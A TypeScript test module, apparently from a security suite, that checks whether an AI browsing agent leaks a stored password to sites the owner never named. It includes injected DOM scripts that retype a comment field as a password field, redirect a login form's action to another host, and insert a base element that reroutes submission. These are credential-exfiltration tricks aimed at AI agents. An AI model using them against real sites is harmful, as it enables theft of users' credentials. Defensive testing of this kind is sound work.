import type { Agent } from '../../fixtures/agents/agent.ts';
import { type Attack, steals } from './attack.ts';

/** Signs in with a credential that says nothing of where it may be used. */
const at =
  (path: string, selector = '#password', button = '#submit', plant = ''): Attack['run'] =>
  async (agent: Agent) => {
    await agent.navigate(agent.elsewhere + path);
    if (plant !== '') await agent.script(plant);
    await agent.fill(selector, '{{CREDENTIAL.password}}', 'anywhere');
    await agent.click(button);
    await agent.wait(150);
  };

const opening = { credentials: ['anywhere'] } as const;

/** What a second site is given, which the owner never named. */
export const anySite: readonly Attack[] = [
  ...steals(
    'anywhere',
    {
      'a log-in of another site': at('/login'),
      'one by a script of the site': at('/spa'),
      'one whose second step it is': async (agent) => {
        await agent.navigate(`${agent.elsewhere}/two-step`);
        await agent.fill('#username', 'ada');
        await agent.click('#next');
        await agent.fill('#password', '{{CREDENTIAL.password}}', 'anywhere');
        await agent.click('#submit');
        await agent.wait(150);
      },
      'its form of a new password': at('/change', '#current', '#change'),
      'its comments, as a password': at(
        '/comments',
        '#comment',
        '#post',
        "document.querySelector('#comment').type = 'password'",
      ),
    },
    { opening },
  ),
  ...steals('password', {
    'a credential of the site at another': async (agent) => {
      await agent.navigate(`${agent.elsewhere}/login`);
      await agent.fill('#password', '{{CREDENTIAL.password}}');
      await agent.click('#submit');
      await agent.wait(150);
    },
    'the log-in of the site, led to another': async (agent) => {
      await agent.navigate('/login');
      await agent.script(`document.querySelector('#login').action = '${agent.elsewhere}/login'`);
      await agent.fill('#password', '{{CREDENTIAL.password}}');
      await agent.click('#submit');
      await agent.wait(150);
    },
    'the log-in of the site, whose address is read from another base': async (agent) => {
      await agent.navigate('/login');
      await agent.script(
        `const base = document.createElement('base'); base.href = '${agent.elsewhere}'; document.head.append(base)`,
      );
      await signInAgain(agent);
    },
  }),
];

async function signInAgain(agent: Agent): Promise<void> {
  await agent.fill('#username', '{{CREDENTIAL.username}}');
  await agent.fill('#password', '{{CREDENTIAL.password}}');
  await agent.click('#submit');
  await agent.wait(150);
}
